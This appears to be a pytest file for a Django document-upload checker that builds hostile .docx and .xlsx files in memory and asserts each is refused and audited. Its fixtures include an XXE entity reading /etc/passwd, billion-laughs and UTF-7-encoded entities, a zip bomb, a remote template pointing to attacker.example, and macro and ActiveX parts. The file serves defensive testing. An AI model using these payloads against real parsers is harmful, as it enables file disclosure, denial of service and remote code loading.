"""Hostile Word files are refused before python-docx or storage sees them, and every refusal is
audited (issue 6, item 7: 入侵防范, validate input). The files are built in memory."""

import io
import zipfile
from collections.abc import Callable

import docx
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from dangjian.access.models import User
from dangjian.audit.models import AuditEvent
from dangjian.core.files.checks import checked_upload
from dangjian.orgs.models import Organization
from dangjian.tasks.models import Plan

pytestmark = pytest.mark.django_db
MiB = 1024 * 1024
DOCUMENT = "word/document.xml"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OUTLINE = ["一、加强理论学习", "（一）县委组织部要每季度开展1次专题研讨。"]


def word_file() -> bytes:
    document = docx.Document()
    for line in OUTLINE:
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rebuild(data: bytes, replace: dict[str, bytes] | None = None,
            add: dict[str, bytes] | None = None) -> bytes:
    """A copy of a .docx with some parts replaced or added: how the attack files are made."""
    replace, add = replace or {}, add or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for member in source.infolist():
            out.writestr(member.filename, replace.get(member.filename, source.read(member)))
        for name, content in add.items():
            out.writestr(name, content)
    return buffer.getvalue()


def _part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


def _poisoned(prolog: str) -> bytes:
    data = word_file()
    body = _part(data, DOCUMENT).split("?>", 1)[-1]  # the attack brings its own prolog
    return rebuild(data, replace={DOCUMENT: (prolog + body).encode()})


def zip_bomb() -> bytes:
    return rebuild(word_file(), add={"word/media/padding.bin": b"0" * (8 * MiB)})


def too_many_parts() -> bytes:
    return rebuild(word_file(), add={f"word/media/p{n}.xml": b"<a/>" for n in range(1001)})


def billion_laughs() -> bytes:
    return _poisoned('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                     '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>')


def external_entity() -> bytes:
    return _poisoned(
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')


def utf7_entity() -> bytes:
    """Entity declarations spelt in UTF-7, which a byte search for "<!ENTITY" misses."""
    data = word_file()
    body = _part(data, DOCUMENT).split("?>", 1)[-1]
    prolog = ('<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE w '
              '+AFs-+ADw-!ENTITY x "lol"+AD4-+AF0-+AD4-')
    return rebuild(data, replace={DOCUMENT: prolog.encode() + body.encode()})


def ebcdic_part() -> bytes:
    data = word_file()
    body = _part(data, DOCUMENT).split("?>", 1)[-1]
    prolog = '<?xml version="1.0" encoding="IBM037"?>'
    return rebuild(data, replace={DOCUMENT: (prolog + body).encode("cp037", "xmlcharrefreplace")})


def remote_template() -> bytes:
    """A macro-free .docx whose settings fetch a template from elsewhere when opened."""
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
            '//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    return rebuild(word_file(), add={"word/_rels/settings.xml.rels": rels.encode()})


def activex_control() -> bytes:
    return rebuild(word_file(), add={"word/activeX/activeX1.xml": b"<ax/>"})


def _retyped(data: bytes, content_type: str, add: dict[str, bytes] | None = None) -> bytes:
    types = _part(data, "[Content_Types].xml").replace(MAIN_TYPE, content_type)
    return rebuild(data, replace={"[Content_Types].xml": types.encode()}, add=add)


def macro_document() -> bytes:
    """A .docm renamed .docx: macro-enabled main part and a VBA project."""
    return _retyped(word_file(), "application/vnd.ms-word.document.macroEnabled.main+xml",
                    add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})


def template() -> bytes:
    """A .dotx renamed .docx: a zip and Word XML, but not a document."""
    return _retyped(word_file(), MAIN_TYPE.replace(".document.main", ".template.main"))


def corrupt_zip() -> bytes:
    data = word_file()
    return data[: len(data) // 2]


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb": (zip_bomb, "压缩比异常，疑似压缩炸弹"),
    "too many parts": (too_many_parts, "部件过多"),
    "billion laughs": (billion_laughs, "XML 实体声明（DOCTYPE/ENTITY）"),
    "external entity": (external_entity, "XML 实体声明（DOCTYPE/ENTITY）"),
    "entities in UTF-7": (utf7_entity, "不允许的字符编码"),
    "EBCDIC part": (ebcdic_part, "不允许的字符编码"),
    "remote template": (remote_template, "指向外部的图片、模板或对象链接"),
    "ActiveX control": (activex_control, "ActiveX"),
    "macro document": (macro_document, "不接受含宏的文档"),
    "template": (template, "文件不是 Word（.docx）格式"),
    "corrupt zip": (corrupt_zip, "文件不是 Word（.docx）格式，或已损坏"),
}


def _last_event() -> AuditEvent:
    event = AuditEvent.objects.order_by("-pk").first()
    assert event is not None
    return event


def _assert_refusal_audited(username: str, message: str, name: str) -> None:
    event = _last_event()
    assert (event.action, event.success, event.username) == ("upload.refused", False, username)
    assert message in event.after["reason"] and event.after["name"] == name


def test_the_bomb_is_small_on_the_wire() -> None:
    assert len(zip_bomb()) < 100 * 1024


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_docx_is_refused_as_evidence_and_audited(
    case: str, user: Callable[[str], User],
) -> None:
    build, message = HOSTILE[case]
    upload = SimpleUploadedFile("整改佐证.docx", build())
    with pytest.raises(ValidationError) as refused:
        checked_upload(upload, allowed_types=["docx"], max_bytes=10 * MiB,
                       actor=user("finance_clerk"))
    assert message in refused.value.message_dict["file"][0]
    _assert_refusal_audited("finance_clerk", message, "整改佐证.docx")


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_docx_plan_is_refused_saving_nothing(
    case: str, api_as: Callable[[str], APIClient], org: Callable[[str], Organization],
) -> None:
    build, message = HOSTILE[case]
    before = Plan.objects.count()
    response = api_as("county_head").post("/api/v1/plans/", {
        "organization": org("示范县人民政府党组").pk, "kind": "讲话", "year": 2026,
        "file": SimpleUploadedFile("讲话.docx", build())}, format="multipart")
    assert response.status_code == 400, response.content
    assert message in response.json()["errors"]["file"][0]
    assert Plan.objects.count() == before
    _assert_refusal_audited("county_head", message, "讲话.docx")


def test_a_hostile_docx_is_refused_by_the_parse_preview(
    api_as: Callable[[str], APIClient],
) -> None:
    response = api_as("finance_clerk").post(
        "/api/v1/plans/parse/", {"file": SimpleUploadedFile("讲话.docx", billion_laughs())},
        format="multipart")
    assert response.status_code == 400
    assert "DOCTYPE" in response.json()["detail"]
    _assert_refusal_audited("finance_clerk", "DOCTYPE", "讲话.docx")


def test_a_normal_docx_is_still_accepted(
    api_as: Callable[[str], APIClient], user: Callable[[str], User],
) -> None:
    fields = checked_upload(SimpleUploadedFile("佐证.docx", word_file()), allowed_types=["docx"],
                            max_bytes=10 * MiB, actor=user("finance_clerk"))
    assert fields["extension"] == "docx"
    response = api_as("finance_clerk").post(
        "/api/v1/plans/parse/", {"file": SimpleUploadedFile("讲话.docx", word_file())},
        format="multipart")
    assert response.status_code == 200, response.content
    assert [item["path"] for item in response.json()["items"]] == [["一", "一"]]
    assert not AuditEvent.objects.filter(action="upload.refused").exists()


def test_a_macro_workbook_is_refused_as_evidence(user: Callable[[str], User]) -> None:
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    data = rebuild(buffer.getvalue(), add={"xl/vbaProject.bin": b"\0" * 16})
    with pytest.raises(ValidationError, match="不接受含宏的工作簿"):
        checked_upload(SimpleUploadedFile("台账.xlsx", data), allowed_types=["xlsx"],
                       max_bytes=10 * MiB, actor=user("finance_clerk"))
    _assert_refusal_audited("finance_clerk", "含宏", "台账.xlsx")


def test_a_renamed_executable_is_refused_and_audited(user: Callable[[str], User]) -> None:
    upload = SimpleUploadedFile("报告.pdf", b"MZ\x90\x00 a Windows program")
    with pytest.raises(ValidationError, match="文件内容与扩展名“pdf”不符"):
        checked_upload(upload, allowed_types=["pdf"], max_bytes=MiB, actor=user("finance_clerk"))
    _assert_refusal_audited("finance_clerk", "不符", "报告.pdf")
